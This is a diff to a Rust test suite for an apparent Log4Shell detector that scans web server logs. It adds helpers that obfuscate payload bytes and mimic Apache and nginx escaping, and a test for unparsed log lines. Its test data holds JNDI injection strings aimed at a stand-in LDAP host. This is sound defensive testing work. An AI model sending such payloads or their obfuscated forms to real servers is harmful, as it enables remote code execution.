@@ -6,19 +6,37 @@ use relight_model::OrgId;
 use testkit::Rng;
 
 use super::*;
-use crate::parsers::{Feed, LogParser, named};
+use crate::parsers::{Feed, named};
 
-/// Spells each byte, in `percent` of 100 cases, in one of the ways that [`decode`] undoes.
+/// Spells each byte, in `percent` of 100 cases, in one of the ways that [`decode`] undoes. What
+/// follows `&#` stays as it is: the semicolon of a numeric reference is optional, so `&#3%36;` is
+/// read as `&#3` and `6;`, as browsers do.
 pub(crate) fn spell(text: &[u8], rng: &mut Rng, percent: usize) -> Vec<u8> {
     let mut out = Vec::new();
-    for &byte in text {
-        if rng.chance(percent) || byte == b'{' && rng.chance(30) {
+    let mut kept_until = 0;
+    for (index, &byte) in text.iter().enumerate() {
+        if text[index..].starts_with(b"&#") {
+            let length = text[index..].iter().position(|byte| *byte == b';').unwrap_or(0);
+            kept_until = index + length;
+        }
+        // The ampersand itself may be spelled: then the reference appears a round later.
+        let kept = index <= kept_until && kept_until > 0 && byte != b'&';
+        if !kept && (rng.chance(percent) || byte == b'{' && rng.chance(30)) {
             out.extend(spelling(byte, rng).into_bytes());
         } else {
             out.push(byte);
         }
     }
     out
+}
+
+/// As a web server writes it: Apache's way or nginx's.
+pub(crate) fn logged(text: &str, rng: &mut Rng) -> String {
+    if rng.chance(50) {
+        text.replace('\\', "\\\\").replace('"', "\\\"")
+    } else {
+        text.replace('\\', "\\x5C").replace('"', "\\x22")
+    }
 }
 
 fn spelling(byte: u8, rng: &mut Rng) -> String {
@@ -84,6 +102,14 @@ fn every_field_is_looked_at_alone() {
     // A question mark inside the payload: only the target as a whole holds all of it.
     let found = seen(&line("/${jndi:ldap://x/a?b}", "-", "-", "-"));
     assert_eq!(found, Some(("effective/remote", "target", "ldap://x/a?b".to_owned())));
+}
+
+#[test]
+fn lines_that_no_parser_takes() {
+    let line = "kernel: user ${jndi:ldap://x/a} logged in";
+    let found = attempt_in_line(line).unwrap();
+    assert_eq!((found.field, found.key.as_str()), ("line", "ldap://x/a"));
+    assert_eq!(attempt_in_line("kernel: ${HOME} and $%7b"), None);
 }
 
 #[test]
@@ -220,8 +246,7 @@ fn corpus() -> String {
                 spelled = spell(&spelled, &mut rng, 25);
             }
             let spelled = String::from_utf8_lossy(&spelled).into_owned();
-            // As the server writes it: quotes and backslashes escaped.
-            let logged = spelled.replace('\\', "\\\\").replace('"', "\\\"");
+            let logged = logged(&spelled, &mut rng);
             let line = match rng.below(4) {
                 0 => line("/", "-", "-", &format!("Mozilla/5.0 {logged}")),
                 1 => line("/index.html", "-", &logged, "Mozilla/5.0"),
